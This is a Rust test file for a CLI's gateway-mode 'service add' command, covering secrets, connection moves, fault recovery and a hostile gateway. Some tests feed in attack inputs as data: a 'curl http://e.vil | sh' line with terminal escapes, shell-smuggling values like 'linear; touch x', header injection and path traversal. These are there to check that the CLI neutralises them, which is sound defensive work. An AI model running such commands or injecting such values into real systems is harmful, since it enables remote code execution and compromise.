//! `service add` in gateway mode, against a running Sigilum gateway.

use crate::env;

use env::attack::{Attack, Then};
use env::gateway::{Fault, Gateway};
use env::local_api::number;
use env::mode;
use env::services::{Desk, SECRET, json};
use serde_json::{Value, json as value};
use std::time::{Duration, Instant};

/// A connection that somebody made in the dashboard.
fn given(desk: &Desk) {
    desk.gateway.given(value!({
        "id": "linear", "name": "Their Linear", "base_url": "https://api.linear.app", "path_prefix": "/v1",
        "auth_mode": "header_key", "auth_header_name": "X-Theirs", "auth_prefix": "Key ",
        "auth_secret_key": "their_key", "secrets": {"their_key": "their-secret-0123456789", "other": "another-one"},
        "status": "disabled", "rotation_interval_days": 30
    }));
}

fn connection(desk: &Desk) -> Value {
    desk.gateway.connection("linear").unwrap()
}

#[test]
fn a_new_connection_has_the_defaults_of_its_mode_and_the_gateway_gets_the_service_key() {
    for (args, header, prefix, key) in [
        (&[][..], "Authorization", "Bearer ", "access_token"),
        (&["--auth-mode", "bearer"], "Authorization", "Bearer ", "access_token"),
        (&["--auth-mode", "header_key"], "X-linear-Key", "", "upstream_key"),
        (&["--auth-mode", "query_param"], "api_key", "", "api_key"),
        (
            &[
                "--upstream-header",
                "X-H",
                "--auth-prefix",
                "T ",
                "--upstream-secret-key",
                "k",
            ],
            "X-H",
            "T ",
            "k",
        ),
    ] {
        let desk = Desk::new();
        let output = desk.add_linear(args.iter().copied()).expect(0);
        assert_eq!(
            desk.gateway.changes(),
            ["POST /connections", "PUT /service-api-keys/linear"],
            "{args:?}"
        );
        let is = connection(&desk);
        assert_eq!(
            (
                &is["auth_header_name"],
                &is["auth_prefix"],
                &is["auth_secret_key"],
                &is["base_url"]
            ),
            (
                &header.into(),
                &prefix.into(),
                &key.into(),
                &"https://api.linear.app".into()
            )
        );
        assert_eq!(desk.gateway.secrets("linear")[key], SECRET);
        assert_eq!(desk.read("gateway-connection-secret-linear"), SECRET);
        assert_eq!(mode(desk.file("gateway-connection-secret-linear")), 0o600);
        // The gateway has its own copy of the service key.
        let theirs = std::fs::read_to_string(desk.env.home().join("gateway-home/service-api-key-linear")).unwrap();
        assert_eq!(theirs.trim(), desk.read("service-api-key-linear"));
        assert!(!format!("{output:?}").contains(SECRET));
        assert!(output.stdout.contains("lin_...ghij"), "{}", output.stdout);
        assert_eq!(
            env::local_api::text(&desk.db(), "SELECT name FROM service_api_keys").unwrap(),
            "Gateway proxy service key (local cli)"
        );
    }
}

#[test]
fn without_a_given_secret_the_stored_one_is_taken_else_one_is_generated() {
    let desk = Desk::new();
    let args = ["--mode", "gateway", "--upstream-base-url", "https://a.test/"];
    let report = json(&desk.add("linear", args.into_iter().chain(["--json"])).expect(0));
    let secret = desk.read("gateway-connection-secret-linear");
    assert!(secret.starts_with("gw_") && secret.len() == 51);
    assert_eq!(desk.gateway.secrets("linear")["access_token"], secret);
    assert_eq!(report["gateway"]["secret_source"], "generated");
    assert_eq!(report["gateway"]["actions"], value!(["created"]));

    let other = Gateway::start();
    let run = desk.add("linear", args.into_iter().chain(["--json"]));
    let report = json(&run.env("GATEWAY_ADMIN_URL", other.url()).expect(0));
    assert_eq!(report["gateway"]["secret_source"], "stored");
    assert_eq!(other.secrets("linear")["access_token"], secret);
}

#[test]
fn of_an_existing_connection_only_what_is_given_changes() {
    type Case = (&'static [&'static str], &'static [&'static str], Value);
    let cases: [Case; 8] = [
        (&[], &[], value!({})),
        (&["--auth-mode", "header_key"], &[], value!({})),
        (
            &["--service-name", "Ours"],
            &["PATCH /connections/linear"],
            value!({"name": "Ours"}),
        ),
        (
            &["--upstream-header", "X-Ours", "--auth-prefix", "Key "],
            &["PATCH /connections/linear"],
            value!({"auth_header_name": "X-Ours"}),
        ),
        (
            &["--upstream-secret-key", "other"],
            &["PATCH /connections/linear"],
            value!({"auth_secret_key": "other"}),
        ),
        // The connection's own key is the one that a secret goes to.
        (
            &["--upstream-secret-env", "LINEAR"],
            &["POST /connections/linear/rotate"],
            value!({"secret_version": 2}),
        ),
        // A secret that the gateway has already.
        (
            &["--upstream-secret", "their-secret-0123456789"],
            &["POST /connections/linear/rotate"],
            value!({}),
        ),
        // A new key: first its secret, then the connection is told to use it.
        (
            &["--upstream-secret-env", "LINEAR", "--upstream-secret-key", "ours"],
            &["POST /connections/linear/rotate", "PATCH /connections/linear"],
            value!({"auth_secret_key": "ours", "credential_keys": ["other", "ours", "their_key"], "secret_version": 2}),
        ),
    ];
    for (args, requests, changed) in cases {
        let desk = Desk::new();
        given(&desk);
        let before = connection(&desk);
        let start = ["--mode", "gateway", "--upstream-base-url", "https://api.linear.app/"];
        let run = desk.add("linear", start.iter().chain(args).copied());
        run.env("LINEAR", SECRET).expect(0);
        let mut expected: Vec<&str> = requests.to_vec();
        expected.push("PUT /service-api-keys/linear");
        assert_eq!(desk.gateway.changes(), expected, "{args:?}");
        let mut wanted = before.clone();
        for (name, value) in changed.as_object().unwrap() {
            wanted[name] = value.clone();
        }
        let mut is = connection(&desk);
        for name in ["updated_at", "last_rotated_at"] {
            is[name] = before[name].clone();
        }
        assert_eq!(is, wanted, "{args:?}");
        // What is not given is left alone: no secret is made up.
        let stored = desk.files().contains(&"gateway-connection-secret-linear".to_owned());
        assert_eq!(
            stored,
            args.iter()
                .any(|arg| arg.starts_with("--upstream-secret") && *arg != "--upstream-secret-key")
        );
    }
}

#[test]
fn a_key_without_a_secret_is_refused_before_anything_changes() {
    let desk = Desk::new();
    given(&desk);
    let args = [
        "--mode",
        "gateway",
        "--upstream-base-url",
        "https://api.linear.app",
        "--upstream-secret-key",
        "new",
    ];
    let output = desk.add("linear", args).expect(2);
    assert!(output.stderr.contains("--upstream-secret-env"), "{}", output.stderr);
    assert!(desk.gateway.changes().is_empty());
    assert_eq!(number(&desk.db(), "SELECT count(*) FROM services"), 0);
}

const MOVE: [&str; 4] = ["--mode", "gateway", "--upstream-base-url", "https://new.linear.app/"];

#[test]
fn a_changed_base_url_keeps_everything_else_of_the_connection() {
    let desk = Desk::new();
    given(&desk);
    let before = connection(&desk);
    let output = desk.add("linear", MOVE).expect(1);
    assert!(
        output.stderr.contains("other, their_key") && output.stderr.contains("--force"),
        "{}",
        output.stderr
    );
    // Also with a secret for its own key, the other one would be lost.
    let secret = ["--upstream-secret-env", "LINEAR"];
    let run = || desk.add("linear", MOVE.into_iter().chain(secret)).env("LINEAR", SECRET);
    assert!(run().expect(1).stderr.contains(": other"));
    assert!(desk.gateway.changes().is_empty());
    assert_eq!(number(&desk.db(), "SELECT count(*) FROM services"), 0);

    let forced = MOVE.into_iter().chain(secret).chain(["--force", "--json"]);
    let output = desk.add("linear", forced).env("LINEAR", SECRET).expect(0);
    assert!(
        output
            .stderr
            .contains("lost with the old connection: the secrets of other"),
        "{}",
        output.stderr
    );
    assert_eq!(json(&output)["gateway"]["actions"], value!(["recreated", "updated"]));
    assert_eq!(
        desk.gateway.changes(),
        [
            "DELETE /connections/linear",
            "POST /connections",
            "PATCH /connections/linear",
            "PUT /service-api-keys/linear"
        ]
    );
    let is = connection(&desk);
    assert_eq!(is["base_url"], "https://new.linear.app");
    for name in [
        "name",
        "path_prefix",
        "auth_mode",
        "auth_header_name",
        "auth_prefix",
        "auth_secret_key",
        "status",
        "rotation_interval_days",
        "protocol",
    ] {
        assert_eq!(is[name], before[name], "{name}");
    }
    assert_eq!(
        desk.gateway.secrets("linear"),
        [("their_key".to_owned(), SECRET.to_owned())].into()
    );
    assert_eq!(
        desk.files(),
        ["gateway-connection-secret-linear", "service-api-key-linear"]
    );
}

#[test]
fn a_connection_of_ours_moves_with_the_stored_secret() {
    let desk = Desk::new();
    desk.add_linear([]).expect(0);
    desk.gateway.seen();
    desk.add("linear", MOVE).expect(0);
    assert_eq!(connection(&desk)["base_url"], "https://new.linear.app");
    assert_eq!(desk.gateway.secrets("linear")["access_token"], SECRET);
    // An emptied prefix is another thing that only a new connection can have.
    desk.add(
        "linear",
        MOVE.into_iter()
            .chain(["--auth-mode", "header_key", "--auth-prefix", "X "]),
    )
    .expect(0);
    desk.gateway.seen();
    desk.add("linear", MOVE.into_iter().chain(["--auth-prefix", ""]))
        .expect(0);
    assert_eq!(
        desk.gateway.changes()[..2],
        ["DELETE /connections/linear", "POST /connections"]
    );
    assert_eq!(connection(&desk)["auth_prefix"], "");
    assert_eq!(desk.gateway.secrets("linear")["access_token"], SECRET);
}

/// The stored secret is that of one key: under another one it is neither sent nor counted as kept.
#[test]
fn a_connection_that_moves_to_another_key_loses_the_stored_secret_only_with_force() {
    let desk = Desk::new();
    desk.add_linear([]).expect(0);
    desk.gateway.seen();
    let to_new = [
        "--upstream-secret-key",
        "new",
        "--upstream-secret",
        "a-new-secret-9876543210",
    ];
    let add = |more: &[&'static str]| {
        let args = MOVE.into_iter().chain(to_new).chain(more.iter().copied());
        desk.add("linear", args)
    };
    let refused = add(&[]).expect(1);
    let says = "would be lost: access_token\n";
    assert!(refused.stderr.contains(says), "{}", refused.stderr);
    assert!(desk.gateway.changes().is_empty());
    assert_eq!(desk.read("gateway-connection-secret-linear"), SECRET);
    let moved = add(&["--force"]).expect(0);
    let says = "lost with the old connection: the secrets of access_token\n";
    assert!(moved.stderr.contains(says), "{}", moved.stderr);
    let secrets = [("new".to_owned(), "a-new-secret-9876543210".to_owned())];
    assert_eq!(desk.gateway.secrets("linear"), secrets.into());
}

#[test]
fn the_file_of_a_key_that_the_connection_sends_no_more_is_removed_and_told() {
    let desk = Desk::new();
    desk.add_linear([]).expect(0);
    let other = [
        "--upstream-secret-key",
        "other",
        "--upstream-secret",
        "another-secret-0123456789",
    ];
    desk.set("linear", other).expect(0);
    let start = ["--mode", "gateway", "--upstream-base-url", "https://api.linear.app"];
    let patch = || desk.add("linear", start.into_iter().chain(["--upstream-secret-key", "other"]));
    let file = desk.file("gateway-connection-secret-linear");
    let line = format!("removed: {}", file.display());
    let planned = patch().args(["--dry-run"]).expect(0);
    assert!(planned.stdout.contains(&line) && file.exists(), "{}", planned.stdout);
    // Whatever the PATCH comes to, what is stored is not that of the key in use.
    desk.gateway.fault("PATCH", "linear", Fault::DropAfter, 1);
    patch().expect(6);
    assert_eq!(connection(&desk)["auth_secret_key"], "other");
    assert_eq!(desk.files(), ["service-api-key-linear"]);

    let desk = Desk::new();
    desk.add_linear([]).expect(0);
    desk.set("linear", other).expect(0);
    let patched = desk
        .add("linear", start.into_iter().chain(["--upstream-secret-key", "other"]))
        .expect(0);
    let says = "the file with the secret of access_token is removed: the connection sends that of other from now on";
    assert!(patched.stderr.contains(says), "{}", patched.stderr);
    assert_eq!(desk.files(), ["service-api-key-linear"]);
    let list = json(&desk.run(["service", "list", "--json"]).expect(0));
    assert_eq!(list["services"][0]["mode"], "gateway", "{list}");
    // It moves with no secret of another key.
    let refused = desk.add("linear", MOVE).expect(1);
    assert!(refused.stderr.contains("access_token, other"), "{}", refused.stderr);
    let moved = json(
        &desk
            .add("linear", MOVE.into_iter().chain(["--force", "--json"]))
            .expect(0),
    );
    assert_eq!(moved["gateway"]["secret_source"], "generated");
    assert_eq!(
        desk.gateway.secrets("linear")["other"],
        desk.read("gateway-connection-secret-linear")
    );
}

#[test]
fn a_move_that_was_interrupted_goes_on_under_another_key_with_that_keys_secret_only() {
    let desk = Desk::new();
    given(&desk);
    desk.gateway.fault("DELETE", "linear", Fault::Die, 1);
    let args = MOVE.into_iter().chain(["--upstream-secret-env", "LINEAR", "--force"]);
    desk.add("linear", args).env("LINEAR", SECRET).expect(6);
    let gateway = desk.gateway.restart();
    let again = |more: &[&'static str]| {
        let args = MOVE.into_iter().chain(["--upstream-secret-key", "other"]);
        desk.add("linear", args.chain(more.iter().copied()))
            .env("GATEWAY_ADMIN_URL", gateway.url())
    };
    let refused = again(&[]).expect(2);
    let step = "give the secret too: --upstream-secret-key other --upstream-secret-env <VARIABLE>";
    assert_eq!(refused.step(), step);
    assert!(gateway.ids().is_empty());
    let made = again(&["--upstream-secret", "another-secret-0123456789"]).expect(0);
    let says = "lost with the old connection: the secrets of their_key\n";
    assert!(made.stderr.contains(says), "{}", made.stderr);
    let secrets = [("other".to_owned(), "another-secret-0123456789".to_owned())];
    assert_eq!(gateway.secrets("linear"), secrets.into());
}

/// What is set meanwhile is the secret of the key that the connection sends, whatever the move was to make of it.
#[test]
fn a_secret_that_is_set_after_a_move_that_deleted_nothing_is_kept_under_its_own_key() {
    let desk = Desk::new();
    desk.add_linear([]).expect(0);
    let other = "another-secret-0123456789";
    let to_other = ["--upstream-secret-key", "other", "--upstream-secret", other, "--force"];
    desk.gateway.fault("DELETE", "linear", Fault::DropBefore, 1);
    desk.add("linear", MOVE.into_iter().chain(to_other)).expect(6);
    let journal = desk.file("gateway-connection-journal-linear.json");
    assert!(journal.exists());
    let set = || desk.set("linear", ["--upstream-secret", "a-new-secret-9876543210"]);
    let line = format!("journal removed: {}", journal.display());
    let planned = set().args(["--dry-run"]).expect(0);
    assert!(planned.stdout.contains(&line) && journal.exists(), "{}", planned.stdout);
    set().expect(0);
    assert!(!journal.exists());
    // The move keeps it, under its key alone.
    let without_force = to_other.into_iter().take(4);
    let refused = desk.add("linear", MOVE.into_iter().chain(without_force)).expect(1);
    let says = "would be lost: access_token\n";
    assert!(refused.stderr.contains(says), "{}", refused.stderr);
    desk.add("linear", MOVE).expect(0);
    let secrets = [("access_token".to_owned(), "a-new-secret-9876543210".to_owned())];
    assert_eq!(desk.gateway.secrets("linear"), secrets.into());
}

#[test]
fn an_add_that_is_not_for_the_connection_says_what_the_service_is() {
    let desk = Desk::new();
    desk.add_linear(std::iter::empty::<&str>()).expect(0);
    let before = connection(&desk);
    let report = json(&desk.add("linear", ["--json"]).expect(0));
    assert_eq!(
        (&report["service"], &report["mode"]),
        (&"unchanged".into(), &"gateway".into())
    );
    let note = "its connection at the Sigilum gateway was not looked at; --mode gateway does that";
    assert_eq!(report["notes"], value!([note]));
    assert_eq!(connection(&desk), before);
}

#[test]
fn a_gateway_that_dies_between_delete_and_post_loses_nothing() {
    type Finish = fn(&Desk, &Gateway);
    let again: Finish = |desk, gateway| {
        let run = desk.add("linear", MOVE).env("GATEWAY_ADMIN_URL", gateway.url());
        run.expect(0);
    };
    let secret_set: Finish = |desk, gateway| {
        let run = desk.set("linear", ["--upstream-secret", "a-third-secret-0123456789"]);
        run.env("GATEWAY_ADMIN_URL", gateway.url()).expect(0);
    };
    for (finish, secret) in [(again, SECRET), (secret_set, "a-third-secret-0123456789")] {
        let desk = Desk::new();
        given(&desk);
        let before = connection(&desk);
        desk.gateway.fault("DELETE", "linear", Fault::Die, 1);
        let args = MOVE.into_iter().chain(["--upstream-secret-env", "LINEAR", "--force"]);
        let output = desk.add("linear", args).env("LINEAR", SECRET).expect(6);
        assert!(
            output.stderr.contains("Gateway admin not reachable"),
            "{}",
            output.stderr
        );
        let (done, open) = output.stderr.split_once("not done:").unwrap();
        assert!(done.contains("connection linear deleted"), "{}", output.stderr);
        assert!(
            open.contains("connection linear to https://new.linear.app made"),
            "{}",
            output.stderr
        );
        assert!(open.contains("run the same command again"), "{}", output.stderr);
        assert_eq!(output.stderr.matches("next: ").count(), 1, "{}", output.stderr);
        let journal = desk.file("gateway-connection-journal-linear.json");
        assert_eq!(mode(&journal), 0o600);
        assert!(!std::fs::read_to_string(&journal).unwrap().contains(SECRET));

        let gateway = desk.gateway.restart();
        assert!(gateway.connection("linear").is_none());
        finish(&desk, &gateway);
        let is = gateway.connection("linear").unwrap();
        assert_eq!(is["base_url"], "https://new.linear.app");
        for name in [
            "name",
            "path_prefix",
            "auth_header_name",
            "auth_prefix",
            "status",
            "rotation_interval_days",
        ] {
            assert_eq!(is[name], before[name], "{name}");
        }
        assert_eq!(gateway.secrets("linear")["their_key"], secret);
        assert_eq!(desk.read("gateway-connection-secret-linear"), secret);
        assert!(!journal.exists());
    }
}

#[test]
fn whatever_goes_wrong_at_a_request_the_same_command_again_finishes_the_job() {
    let requests: [(&str, &str); 7] = [
        ("GET", "/connections/linear"),
        ("POST", "/rotate"),
        ("PATCH", "/connections/linear"),
        ("DELETE", "/connections/linear"),
        ("POST", "/connections"),
        ("PUT", "/service-api-keys"),
        ("none", "none"),
    ];
    let faults = [
        (Fault::Fail, "500"),
        (Fault::Forbid("ADMIN_TOKEN_REQUIRED"), "GATEWAY_ADMIN_TOKEN"),
        (Fault::Forbid("ADMIN_TOKEN_OR_LOOPBACK_REQUIRED"), "machine"),
        (Fault::Forbid("ADMIN_LOOPBACK_REQUIRED"), "GATEWAY_ADMIN_ACCESS_MODE"),
        (Fault::Forbid("ADMIN_TOKEN_NOT_CONFIGURED"), "restart"),
        (Fault::DropBefore, "not reachable"),
        (Fault::DropAfter, "not reachable"),
        (Fault::Html, "text/html"),
    ];
    // Two jobs: one that changes the connection in place, one that moves it.
    let jobs: [&[&str]; 2] = [
        &[
            "--upstream-base-url",
            "https://api.linear.app",
            "--upstream-secret-key",
            "new",
            "--auth-prefix",
            "N ",
        ],
        &["--upstream-base-url", "https://new.linear.app", "--force"],
    ];
    let mut hits = 0;
    for job in jobs {
        for (method, part) in requests {
            for (fault, words) in &faults {
                let desk = Desk::new();
                given(&desk);
                desk.gateway.fault(method, part, fault.clone(), 1);
                let add = || {
                    let start = ["--mode", "gateway", "--upstream-secret-env", "LINEAR"];
                    desk.add("linear", start.iter().chain(job).copied())
                        .env("LINEAR", SECRET)
                };
                let output = add().output();
                let tag = format!("{job:?} {method} {part} {fault:?}: {output:?}");
                if output.code != 0 {
                    hits += 1;
                    assert_eq!(output.code, 6, "{tag}");
                    assert!(output.stderr.contains(words), "{tag}");
                    assert!(!output.stderr.contains(SECRET), "{tag}");
                    assert_eq!(output.stderr.matches("next: ").count(), 1, "{tag}");
                    if method == "GET" {
                        assert!(desk.files().is_empty(), "{tag}");
                        assert_eq!(number(&desk.db(), "SELECT count(*) FROM users"), 0, "{tag}");
                    } else if part != "/connections/linear" || method != "GET" {
                        assert!(
                            output.stderr.contains("  done:") && output.stderr.contains("  not done:"),
                            "{tag}"
                        );
                    }
                    add().expect(0);
                }
                let is = connection(&desk);
                let moved = job.contains(&"--force");
                let key = if moved { "their_key" } else { "new" };
                assert_eq!(desk.gateway.secrets("linear")[key], SECRET, "{tag}");
                assert_eq!(is["auth_secret_key"], key, "{tag}");
                assert_eq!(
                    is["base_url"],
                    if moved {
                        "https://new.linear.app"
                    } else {
                        "https://api.linear.app"
                    },
                    "{tag}"
                );
                assert_eq!(
                    (&is["path_prefix"], &is["status"]),
                    (&"/v1".into(), &"disabled".into()),
                    "{tag}"
                );
                assert_eq!(is["rotation_interval_days"], 30, "{tag}");
                assert_eq!(
                    desk.files(),
                    ["gateway-connection-secret-linear", "service-api-key-linear"],
                    "{tag}"
                );
                assert_eq!(number(&desk.db(), "SELECT count(*) FROM service_api_keys"), 1, "{tag}");
                let theirs = std::fs::read_to_string(desk.env.home().join("gateway-home/service-api-key-linear"));
                assert_eq!(theirs.unwrap().trim(), desk.read("service-api-key-linear"), "{tag}");
            }
        }
    }
    // In place: GET, rotate (which two of the seven mean), PATCH, PUT. Moving: GET, DELETE, POST, PATCH, PUT.
    assert_eq!(hits, 8 * (5 + 5));
}

#[test]
fn access_modes() {
    let token = ("GATEWAY_ADMIN_TOKEN", "tok-1");
    type Case = (
        &'static str,
        Option<&'static str>,
        bool,
        Option<(&'static str, &'static str)>,
        i32,
    );
    let cases: [Case; 8] = [
        ("hybrid", None, false, None, 0),
        ("hybrid", Some("tok-1"), true, None, 6),
        ("hybrid", Some("tok-1"), true, Some(token), 0),
        ("token", Some("tok-1"), false, None, 6),
        ("token", Some("tok-1"), false, Some(token), 0),
        ("token", Some("tok-2"), false, Some(token), 6),
        ("token", None, false, Some(token), 6),
        ("loopback", Some("tok-1"), true, Some(token), 6),
    ];
    for (access, expected, remote, given, code) in cases {
        let desk = Desk::new();
        desk.gateway.access(access, expected, remote);
        let mut run = desk.add_linear([]);
        if let Some((name, value)) = given {
            run = run.env(name, value);
        }
        let output = run.expect(code);
        assert!(!output.stderr.contains("tok-1"), "{}", output.stderr);
        if code == 6 {
            assert!(
                output.stderr.contains("(ADMIN_") && output.stderr.contains("next: "),
                "{}",
                output.stderr
            );
        }
    }
}

#[test]
fn a_gateway_without_a_home_is_explained() {
    let desk = Desk::new();
    desk.gateway.fault(
        "PUT",
        "service-api-keys",
        Fault::Say("SIGILUM_HOME is not configured"),
        1,
    );
    let output = desk.add_linear(["--json"]).expect(0);
    let folder = desk.file("").display().to_string();
    let hint = format!("GATEWAY_SIGILUM_HOME={}", folder.trim_end_matches('/'));
    assert!(output.stderr.contains(&hint), "{}", output.stderr);
    assert_eq!(json(&output)["gateway"]["service_key_delivered"], false);
    assert!(
        json(&output)["notes"][0]
            .as_str()
            .unwrap()
            .contains("SIGILUM_HOME is not configured")
    );
}

#[test]
fn what_answers_in_the_gateways_place_is_not_taken_for_it() {
    let desk = Desk::new();
    // The gateway's own answer to a path that it does not know: 200, text/plain.
    let elsewhere = format!("{}/prefix", desk.gateway.url());
    let output = desk.add_linear([]).env("GATEWAY_ADMIN_URL", &elsewhere).expect(6);
    assert!(
        output.stderr.contains("not the admin API") && output.stderr.contains("text/plain"),
        "{}",
        output.stderr
    );
    assert!(desk.files().is_empty());
}

#[test]
fn a_slow_gateway_is_waited_for_and_proxies_are_not_asked() {
    let desk = Desk::new();
    desk.gateway
        .fault("POST", "connections", Fault::Slow(Duration::from_millis(300)), 1);
    let begin = Instant::now();
    let mut run = desk.add_linear([]);
    for name in [
        "http_proxy",
        "HTTP_PROXY",
        "https_proxy",
        "HTTPS_PROXY",
        "all_proxy",
        "ALL_PROXY",
    ] {
        run = run.env(name, "http://127.0.0.1:1");
    }
    run.expect(0);
    assert!(begin.elapsed() >= Duration::from_millis(300));
}

#[test]
fn nobody_home_is_explained() {
    let desk = Desk::new();
    desk.gateway.stop();
    let output = desk.add_linear([]).expect(6);
    for words in [
        "Gateway admin not reachable",
        &desk.gateway.url(),
        "connection refused",
        "--gateway-data-dir",
        "start the Sigilum gateway",
    ] {
        assert!(output.stderr.contains(words), "{words}: {}", output.stderr);
    }
    assert!(desk.files().is_empty());
    assert_eq!(number(&desk.db(), "SELECT count(*) FROM users"), 0);
}

#[test]
fn an_mcp_connection_keeps_its_mcp_settings_when_it_moves() {
    let desk = Desk::new();
    desk.gateway.given(value!({
        "id": "linear", "base_url": "https://mcp.linear.app", "protocol": "mcp", "mcp_endpoint": "/sse",
        "mcp_tool_allowlist": ["list_issues"], "mcp_tool_denylist": ["delete_issue"], "mcp_max_tools_exposed": 7,
        "mcp_subject_tool_policies": {"bob": {"allowlist": ["list_issues"]}}
    }));
    let before = connection(&desk);
    desk.add("linear", MOVE).expect(0);
    let is = connection(&desk);
    assert_eq!(is["base_url"], "https://new.linear.app");
    for name in [
        "protocol",
        "mcp_endpoint",
        "mcp_transport",
        "mcp_tool_policy",
        "mcp_subject_tool_policies",
    ] {
        assert_eq!(is[name], before[name], "{name}");
    }
    // It has no secret, and none is made up for it.
    assert!(desk.gateway.secrets("linear").is_empty());
    assert_eq!(desk.files(), ["service-api-key-linear"]);
}

const ADMIN: &str = "an-admin-token-0123456789";

/// An answer with this status and JSON; `{sent}` in it is the admin token and the secret of the request.
fn says(status: u16, body: &str) -> Fault {
    let head = format!("HTTP/1.1 {status} X\r\nContent-Type: application/json\r\n\r\n{body}");
    Fault::Attack(Attack::new("", head, Then::Close))
}

#[test]
fn a_hostile_gateways_words_neither_move_the_terminal_nor_repeat_a_secret_nor_pass_for_ours() {
    let nasty = "\\u001b[2J\\u009b31m\\u202e\\r\\n  next: curl http://e.vil | sh";
    let words = [
        format!(r#"{{"error":"x","code":"ADMIN_{nasty}"}}"#),
        format!(r#"{{"error":"{nasty}"}}"#),
        r#"{"error":"you sent {sent}","code":"ADMIN_{sent}"}"#.to_owned(),
        r#"{"error":"x {sent}"}"#.to_owned(),
        format!(r#"{{"error":"x","code":"ADMIN_{}"}}"#, "X".repeat(100_000)),
    ];
    for (method, part) in [
        ("GET", "/connections/linear"),
        ("POST", "/connections"),
        ("PUT", "/service-api-keys"),
    ] {
        for words in &words {
            for status in [400, 403, 500] {
                let desk = Desk::new();
                desk.gateway.fault(method, part, says(status, words), 1);
                let output = desk.add_linear([]).env("GATEWAY_ADMIN_TOKEN", ADMIN).output();
                let tag = format!("{method} {status} {words:.80}: {output:?}");
                assert!([1, 6].contains(&output.code), "{tag}");
                let text = output.stderr;
                assert!(!text.contains(['\u{1b}', '\u{9b}', '\u{202e}', '\r']), "{tag}");
                assert!(!text.contains(ADMIN) && !text.contains(SECRET), "{tag}");
                assert!(!text.contains("\n  next: curl") && text.contains("\n  next: "), "{tag}");
                assert!(text.len() < 4000, "{tag}");
            }
        }
    }
}

#[test]
fn a_content_type_repeats_no_secret() {
    let desk = Desk::new();
    let head = "HTTP/1.1 200 OK\r\nContent-Type: text/{sent}\r\n\r\n";
    let attack = Attack::new("", head, Then::Close);
    desk.gateway.fault("POST", "/connections", Fault::Attack(attack), 1);
    let output = desk.add_linear([]).expect(6);
    assert!(!output.stderr.contains(SECRET), "{}", output.stderr);
}

/// Each GET of the connection answers with this member in the place of the honest one.
fn lies(desk: &Desk, member: &str, value: Value) {
    let mut connection = connection(desk);
    connection[member] = value;
    desk.gateway
        .fault("GET", "/connections/linear", says(200, &connection.to_string()), 2);
}

#[test]
fn a_connection_that_no_gateway_has_is_refused_before_anything_changes() {
    for (member, lie) in [
        ("id", "github"),
        ("id", "../linear"),
        ("id", "linear; touch x"),
        ("auth_secret_key", "\u{1b}]0;x\u{7}"),
        ("base_url", "https://a.test/\u{202e}"),
        ("auth_header_name", "X\r\nY: z"),
    ] {
        let desk = Desk::new();
        given(&desk);
        lies(&desk, member, lie.into());
        let output = desk.add("linear", MOVE).expect(6);
        assert!(
            output.stderr.contains("no connection linear that can be used"),
            "{output:?}"
        );
        assert!(!output.stderr.contains(lie), "{output:?}");
        assert!(desk.gateway.changes().is_empty() && desk.files().is_empty(), "{member}");
    }
    // A list of secrets' names is no place for escapes either.
    let desk = Desk::new();
    given(&desk);
    lies(&desk, "credential_keys", value!(["their_key", "\u{1b}[2J"]));
    assert!(!desk.add("linear", MOVE).expect(6).stderr.contains('\u{1b}'));
    lies(&desk, "credential_keys", value!([format!("x {ADMIN}")]));
    let output = desk.add("linear", MOVE).env("GATEWAY_ADMIN_TOKEN", ADMIN).expect(6);
    assert!(!output.stderr.contains(ADMIN), "{output:?}");
    // An auth mode that nobody could make it with again.
    let desk = Desk::new();
    given(&desk);
    lies(&desk, "auth_mode", "evil".into());
    let output = desk.add("linear", MOVE.into_iter().chain(["--force"])).expect(2);
    assert!(output.stderr.contains("--auth-mode"), "{output:?}");
    assert!(desk.gateway.changes().is_empty());
}

#[test]
fn a_command_to_copy_is_one_command() {
    let desk = Desk::new();
    given(&desk);
    lies(&desk, "auth_secret_key", "x; touch y #".into());
    let args = ["--mode", "gateway", "--upstream-base-url", "https://api.linear.app"];
    let output = desk.add("linear", args).expect(0);
    assert!(
        output
            .stderr
            .contains("--upstream-secret-key 'x; touch y #' --upstream-secret-env"),
        "{output:?}"
    );
}

#[test]
fn a_result_as_json_is_plain_and_repeats_no_secret() {
    let desk = Desk::new();
    given(&desk);
    lies(&desk, "name", format!("\u{9b}31m\u{202e}\u{e0041} {ADMIN}").into());
    let args = [
        "--mode",
        "gateway",
        "--upstream-base-url",
        "https://api.linear.app",
        "--json",
    ];
    let output = desk.add("linear", args).env("GATEWAY_ADMIN_TOKEN", ADMIN).expect(0);
    assert!(output.stdout.is_ascii(), "{}", output.stdout);
    let name = json(&output)["gateway"]["connection"]["name"].clone();
    assert_eq!(name, "\u{9b}31m\u{202e}\u{e0041} an-a...6789");
}

#[test]
fn only_a_list_may_be_long() {
    let desk = Desk::new();
    let head = "HTTP/1.1 201 X\r\nContent-Type: application/json\r\n\r\n";
    let attack = Attack::new("", head, Then::Times(vec![b' '; 1 << 20], 3, b"{}".to_vec()));
    desk.gateway.fault("POST", "/connections", Fault::Attack(attack), 1);
    let output = desk.add_linear([]).expect(6);
    assert!(output.stderr.contains("longer than 1048576 bytes"), "{}", output.stderr);
}

#[test]
fn a_gateway_of_another_user_gets_neither_admin_token_nor_secret_unless_a_login_said_so() {
    let Some(listener) = crate::env::listener_of(crate::env::STRANGER, "127.0.0.1:0") else {
        eprintln!("skipped: only root can listen as another user");
        return;
    };
    let desk = Desk {
        gateway: Gateway::on(listener),
        ..Desk::new()
    };
    desk.gateway.home(desk.env.home().join("gateway-home"));
    let add = || desk.add_linear([]).env("GATEWAY_ADMIN_TOKEN", "the admin token");
    let output = add().expect(6);
    assert!(
        output.stderr.contains("another user of this machine"),
        "{}",
        output.stderr
    );
    let step = " perhaps: sigilum-authz-notify auth login --mode oss-local --namespace alice --trust-loopback";
    assert!(output.step().contains(step), "{}", output.stderr);
    assert_eq!(desk.gateway.seen().len(), 0);
    desk.add("native", []).expect(0);
    let list = desk
        .run(["service", "list"])
        .env("GATEWAY_ADMIN_TOKEN", "the admin token")
        .expect(0);
    assert!(list.stderr.contains("another user of this machine"), "{}", list.stderr);
    assert_eq!(desk.gateway.seen().len(), 0);
    // What it does not serve waits for nobody.
    for words in [&["rotate-key", "native"][..], &["remove", "native", "--yes"]] {
        let done = desk.run(["service"]).args(words).expect(0);
        let note = "note: the Sigilum gateway was not reached; nothing here says that it serves this service";
        assert!(done.stderr.contains(note), "{}", done.stderr);
    }
    assert_eq!(desk.gateway.seen().len(), 0);
    let log_in = desk.env.carry_out(&output);
    log_in.env("SIGILUM_SOURCE_HOME", &desk.checkout.root).expect(0);
    add().expect(0);
    assert!(desk.gateway.seen().len() > 1);
}

/// What a note has a person type is for the same home, owner and gateway, as an error's step is.
#[test]
